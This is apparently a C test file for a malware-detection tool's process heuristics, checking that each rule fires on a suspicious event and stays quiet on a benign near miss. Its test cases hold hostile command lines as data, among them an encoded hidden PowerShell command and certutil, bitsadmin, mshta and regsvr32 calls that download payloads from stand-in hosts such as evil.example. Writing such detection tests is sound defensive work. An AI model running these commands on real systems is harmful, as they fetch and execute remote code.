/* SPDX-License-Identifier: MIT */
/*
 * t_heuristics.c - each heuristic fires on a true example and stays quiet
 * on a near-miss benign one; none fires on the benign Sysmon events of
 * rules/sigma nor on bench/gen.py's benign processes.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "score/signals.h"
#include "tap.h"

#define BENIGN "rules/sigma/benign_events.jsonl"

/* The ids that fire on a JSON text, comma-separated, into buf. */
static const char *
fired(const char *json, char *buf, size_t n)
{
	jv row = jv_parse(json), hits = jv_array();
	size_t len = 0;

	buf[0] = '\0';
	if (!jv_is_valid(row)) {
		jv_free(row);
		jv_free(hits);
		snprintf(buf, n, "(bad json)");
		return buf;
	}
	vc_heuristics(row, &hits);
	jv_array_foreach(hits, i, h) {
		jv id = jv_object_get(h, jv_string("id"));
		int w = snprintf(buf + len, n - len, "%s%s", len ? "," : "", jv_string_value(id));
		if (w > 0 && (size_t)w < n - len)
			len += (size_t)w;
		jv_free(id);
	}
	jv_free(hits);
	jv_free(row);
	return buf;
}

struct pair {
	const char *id, *bad, *good;
};

static const struct pair cases[] = {
	{ "H001",
	  "{\"Name\":\"powershell.exe\",\"CommandLine\":\"powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\"}",
	  "{\"Name\":\"powershell.exe\",\"CommandLine\":\"powershell.exe -ExecutionPolicy Bypass -File C:\\\\scripts\\\\backup.ps1\"}" },
	{ "H001",
	  "{\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd /c powershell /EncodedCommand \\\"ZQBjAGgAbwAgAGgAaQA=\\\"\"}",
	  "{\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd /c echo -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi\"}" },
	{ "H002",
	  "{\"Name\":\"certutil.exe\",\"Exe\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":\"certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\\\Users\\\\Public\\\\a.exe\"}",
	  "{\"Name\":\"certutil.exe\",\"Exe\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":\"certutil.exe -hashfile C:\\\\tools\\\\setup.msi SHA256\"}" },
	{ "H002",
	  "{\"Image\":\"C:\\\\Windows\\\\System32\\\\regsvr32.exe\",\"CommandLine\":\"regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll\"}",
	  "{\"Image\":\"C:\\\\Windows\\\\System32\\\\regsvr32.exe\",\"CommandLine\":\"regsvr32 /s C:\\\\Program Files\\\\Vendor\\\\plugin.dll\"}" },
	{ "H002",
	  "{\"Image\":\"C:\\\\Windows\\\\System32\\\\rundll32.exe\",\"CommandLine\":\"rundll32.exe javascript:\\\"\\\\..\\\\mshtml,RunHTMLApplication \\\";alert(1)\"}",
	  "{\"Image\":\"C:\\\\Windows\\\\System32\\\\rundll32.exe\",\"CommandLine\":\"rundll32.exe shell32.dll,Control_RunDLL desk.cpl\"}" },
	{ "H002",
	  "{\"Image\":\"C:\\\\Windows\\\\System32\\\\mshta.exe\",\"CommandLine\":\"mshta.exe https://evil.example/payload.hta\"}",
	  "{\"Image\":\"C:\\\\Windows\\\\System32\\\\mshta.exe\",\"CommandLine\":\"mshta.exe C:\\\\Program Files\\\\Vendor\\\\help.hta\"}" },
	{ "H002",
	  "{\"Name\":\"bitsadmin.exe\",\"CommandLine\":\"bitsadmin /transfer job /download /priority high http://evil.example/x.exe C:\\\\Temp\\\\x.exe\"}",
	  "{\"Name\":\"bitsadmin.exe\",\"CommandLine\":\"bitsadmin /list /allusers\"}" },
	{ "H002",
	  "{\"Name\":\"WMIC.exe\",\"CommandLine\":\"wmic /node:10.0.0.5 process call create \\\"cmd /c whoami\\\"\"}",
	  "{\"Name\":\"WMIC.exe\",\"CommandLine\":\"wmic process list brief\"}" },
	{ "H003",
	  "{\"Image\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\",\"CommandLine\":\"powershell -nop\",\"ParentImage\":\"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE\"}",
	  "{\"Image\":\"C:\\\\Windows\\\\splwow64.exe\",\"CommandLine\":\"splwow64.exe 8192\",\"ParentImage\":\"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE\"}" },
	{ "H003",
	  "{\"Name\":\"cmd.exe\",\"Parent\":{\"Name\":\"EXCEL.EXE\"}}",
	  "{\"Name\":\"cmd.exe\",\"Parent\":{\"Name\":\"explorer.exe\"}}" },
	{ "H004",
	  "{\"Name\":\"upd.exe\",\"Exe\":\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\upd.exe\",\"Authenticode\":{\"Trusted\":\"untrusted\"}}",
	  "{\"Name\":\"Code.exe\",\"Exe\":\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Programs\\\\Microsoft VS Code\\\\Code.exe\",\"Authenticode\":{\"Trusted\":\"trusted\"}}" },
	{ "H004",
	  "{\"Name\":\"tool.exe\",\"Exe\":\"C:\\\\ProgramData\\\\tool.exe\",\"Authenticode\":{\"Trusted\":\"unsigned\"}}",
	  "{\"Name\":\"tool.exe\",\"Exe\":\"C:\\\\Program Files\\\\Tool\\\\tool.exe\",\"Authenticode\":{\"Trusted\":\"unsigned\"}}" },
	{ "H005",
	  "{\"Name\":\"kworkerds\",\"Exe\":\"/var/lib/.x/kworkerds (deleted)\",\"CommandLine\":\"kworkerds\"}",
	  "{\"Name\":\"sshd\",\"Exe\":\"/usr/sbin/sshd\",\"CommandLine\":\"/usr/sbin/sshd -D\",\"Deleted\":false}" },
	{ "H005",
	  "{\"Name\":\"x\",\"Exe\":\"/usr/local/bin/x\",\"Deleted\":true}",
	  "{\"Name\":\"x\",\"Exe\":\"/usr/local/bin/x\",\"Deleted\":\"false\"}" },
	{ "H006",
	  "{\"Name\":\"xmrig\",\"Exe\":\"/dev/shm/.x/xmrig\",\"CommandLine\":\"./xmrig -o pool:3333\"}",
	  "{\"Name\":\"tmpreaper\",\"Exe\":\"/usr/sbin/tmpreaper\",\"CommandLine\":\"tmpreaper 240 /tmp/\"}" },
	{ "H006",
	  "{\"Image\":\"/tmp/.ICE-unix/a\",\"CommandLine\":\"/tmp/.ICE-unix/a\"}",
	  "{\"Image\":\"/usr/bin/tmux\",\"CommandLine\":\"tmux -S /tmp/tmux-1000/default\"}" },
	{ "H007",
	  "{\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd.exe /c echo abc > \\\\\\\\.\\\\pipe\\\\x\",\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\services.exe\"}",
	  "{\"Image\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\",\"CommandLine\":\"svchost.exe -k netsvcs\",\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\services.exe\"}" },
	{ "H008",
	  "{\"Name\":\"invoice.pdf.exe\",\"Exe\":\"C:\\\\Users\\\\bob\\\\Downloads\\\\invoice.pdf.exe\"}",
	  "{\"Name\":\"python3.11.exe\",\"Exe\":\"C:\\\\Python311\\\\python3.11.exe\"}" },
	{ "H008",
	  "{\"Name\":\"scan.jpg      .scr\"}",
	  "{\"Name\":\"setup-1.2.3.exe\"}" },
	{ "H009",
	  "{\"Name\":\"svchost.exe\",\"Exe\":\"C:\\\\Users\\\\Public\\\\svchost.exe\"}",
	  "{\"Name\":\"svchost.exe\",\"Exe\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\"}" },
	{ "H009",
	  "{\"Name\":\"lsass.exe\",\"Exe\":\"C:\\\\Windows\\\\lsass.exe\"}",
	  "{\"Name\":\"csrss.exe\",\"Exe\":\"\\\\??\\\\C:\\\\Windows\\\\system32\\\\csrss.exe\"}" },
	{ "H009",
	  "{\"Name\":\"csrss.exe\",\"Exe\":\"C:\\\\Windows\\\\System32\\\\drivers\\\\csrss.exe\"}",
	  "{\"Name\":\"smss.exe\",\"Exe\":\"\\\\SystemRoot\\\\System32\\\\smss.exe\"}" },
	{ "H009",
	  "{\"Name\":\"lsass.exe\",\"Exe\":\"\\\\Device\\\\HarddiskVolume3\\\\Users\\\\Public\\\\lsass.exe\"}",
	  "{\"Name\":\"svchost.exe\",\"Exe\":\"\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32\\\\svchost.exe\"}" },
	{ "H010",
	  "{\"Name\":\"certutil.exe\",\"Exe\":\"C:\\\\Users\\\\Public\\\\certutil.exe\",\"CommandLine\":\"certutil.exe -hashfile a\"}",
	  "{\"Name\":\"certutil.exe\",\"Exe\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":\"certutil.exe -hashfile a\"}" },
	{ "H011",
	  "{\"Name\":\"scvhost.exe\",\"Exe\":\"C:\\\\Windows\\\\scvhost.exe\"}",
	  "{\"Name\":\"taskhost.exe\",\"Exe\":\"C:\\\\Windows\\\\System32\\\\taskhost.exe\"}" },
	{ "H011",
	  "{\"Name\":\"lsas.exe\"}",
	  "{\"Name\":\"lsass.exe\"}" },
};

static int
has_id(const char *list, const char *id)
{
	size_t n = strlen(id);

	for (const char *p = list; (p = strstr(p, id)) != NULL; p += n)
		if ((p == list || p[-1] == ',') && (p[n] == '\0' || p[n] == ','))
			return 1;
	return 0;
}

/* Run bench/gen.py's Pslist rows; count heuristic hits on the benign
 * ones (everything but its planted evil.exe). */
static int
gen_benign(int *rows, int *evil_hits)
{
	char path[] = "/tmp/vc-t-heur.XXXXXX", cmd[512], *line = NULL;
	size_t cap = 0;
	ssize_t len;
	int fd = mkstemp(path), fires = 0;
	FILE *f;

	*rows = 0;
	*evil_hits = 0;
	if (fd < 0)
		return -1;
	close(fd);
	snprintf(cmd, sizeof cmd, "/usr/bin/python3 bench/gen.py pslist 5000 50 > %s", path);
	if (system(cmd) != 0 || (f = fopen(path, "r")) == NULL) {
		unlink(path);
		return -1;
	}
	while ((len = getline(&line, &cap, f)) > 0) {
		jv row = jv_parse_sized(line, (int)len), hits = jv_array(), name;
		int n;
		if (!jv_is_valid(row)) {
			jv_free(row);
			jv_free(hits);
			continue;
		}
		(*rows)++;
		n = vc_heuristics(row, &hits);
		name = jv_object_get(jv_copy(row), jv_string("Name"));
		if (strcmp(jv_string_value(name), "evil.exe") == 0)
			*evil_hits += n > 0;
		else if (n > 0) {
			if (fires == 0) {
				jv t = jv_dump_string(jv_copy(hits), 0);
				printf("# fired on benign: %s\n", jv_string_value(t));
				jv_free(t);
			}
			fires++;
		}
		jv_free(name);
		jv_free(hits);
		jv_free(row);
	}
	free(line);
	fclose(f);
	unlink(path);
	return fires;
}

int
main(void)
{
	char buf[512];
	size_t n;
	const struct vc_heuristic_info *t = vc_heuristics_table(&n);
	FILE *f;

	/* The table. */
	ok(n >= 10, "%zu heuristics in the table", n);
	{
		int good = 1;
		for (size_t i = 0; i < n; i++) {
			char want[24];
			snprintf(want, sizeof want, "H%03zu", i + 1);
			if (strcmp(t[i].id, want) != 0 || t[i].weight <= 0 || t[i].weight >= 1 ||
			    t[i].title == NULL || t[i].why == NULL || strlen(t[i].why) < 20)
				good = 0;
		}
		ok(good, "ids in order, weights in (0,1), each with a title and a rationale");
	}

	/* Each rule: a true example and a near miss. */
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		ok(has_id(fired(cases[i].bad, buf, sizeof buf), cases[i].id), "%s fires on %.70s (got %s)",
		    cases[i].id, cases[i].bad, buf);
		fired(cases[i].good, buf, sizeof buf);
		is_str(buf, "", "nothing fires on the near miss %.70s", cases[i].good);
	}
	{
		size_t covered = 0;
		for (size_t i = 0; i < n; i++)
			for (size_t j = 0; j < sizeof cases / sizeof cases[0]; j++)
				if (strcmp(cases[j].id, t[i].id) == 0) {
					covered++;
					break;
				}
		is_int(covered, n, "every heuristic has a test case");
	}

	/* The indicator's shape. */
	{
		jv row = jv_parse("{\"EventData\":{\"Image\":\"C:\\\\Users\\\\Public\\\\svchost.exe\","
		    "\"CommandLine\":\"svchost.exe\"}}"), hits = jv_invalid(), h, ev;
		is_int(vc_heuristics(row, &hits), 1, "an event-log shape (EventData) works too");
		h = jv_array_get(jv_copy(hits), 0);
		ev = jv_object_get(jv_copy(h), jv_string("evidence"));
		{
			jv k = jv_object_get(jv_copy(h), jv_string("kind"));
			jv f0 = jv_object_get(jv_array_get(jv_copy(ev), 0), jv_string("field"));
			is_str(jv_string_value(k), "heuristic", "kind");
			ok(jv_number_value(jv_object_get(jv_copy(h), jv_string("weight"))) == 0.7, "weight from the table");
			is_str(jv_string_value(f0), "EventData.Image", "evidence names the field where it was found");
			jv_free(k);
			jv_free(f0);
		}
		jv_free(ev);
		jv_free(h);
		jv_free(hits);
		jv_free(row);
	}
	{
		jv hits = jv_array(), x = jv_string("x");
		is_int(vc_heuristics(x, &hits), 0, "not an object: nothing (the row is borrowed)");
		is_int(vc_heuristics(jv_null(), &hits), 0, "null: nothing");
		jv_free(x);
		jv_free(hits);
	}
	ok(vc_path_user_writable("C:\\USERS\\PUBLIC\\x.exe") && vc_path_user_writable("/tmp/a") &&
	    !vc_path_user_writable("C:\\Windows\\System32\\x.exe") && !vc_path_user_writable("/usr/tmpx/a"),
	    "user-writable directories, any case");

	/* Benign Sysmon events. */
	f = fopen(BENIGN, "r");
	ok(f != NULL, "%s exists (SigmaHQ data in the repository)", BENIGN);
	if (f != NULL) {
		char *line = NULL;
		size_t cap = 0;
		ssize_t len;
		int rows = 0, fires = 0;
		while ((len = getline(&line, &cap, f)) > 0) {
			jv row = jv_parse_sized(line, (int)len), hits = jv_array();
			if (jv_is_valid(row)) {
				rows++;
				if (vc_heuristics(row, &hits) > 0) {
					jv d = jv_dump_string(jv_copy(hits), 0);
					printf("# fired: %s\n", jv_string_value(d));
					jv_free(d);
					fires++;
				}
			}
			jv_free(hits);
			jv_free(row);
		}
		free(line);
		fclose(f);
		is_int(rows, 20, "20 benign events read");
		is_int(fires, 0, "no heuristic fires on any of them");
	}

	/* bench/gen.py's fleet. */
	{
		int rows, evil, fires = gen_benign(&rows, &evil);
		ok(fires >= 0 && rows == 5000, "gen.py pslist 5000 50 ran (%d rows)", rows);
		is_int(fires, 0, "no heuristic fires on its benign processes");
		ok(evil > 0, "its planted C:\\Users\\Public\\evil.exe (untrusted) is caught (%d)", evil);
	}
	return done_testing();
}
